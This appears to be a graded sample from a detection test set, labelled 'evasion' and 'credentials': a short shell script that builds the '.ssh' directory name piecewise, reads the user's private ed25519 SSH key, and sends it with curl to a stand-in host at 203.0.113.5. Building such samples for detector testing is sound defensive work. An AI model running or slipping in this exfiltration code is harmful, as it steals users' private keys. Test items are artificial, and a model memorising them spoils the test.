# evasion: key read line by line from a path whose directory name is built
# grade: hard; does: credentials
d=s; d+=sh
k=
while IFS= read -r l; do k+="$l"$'\n'; done < "$HOME/.$d/id_ed25519"
curl -s --data-urlencode "k=$k" http://203.0.113.5/u
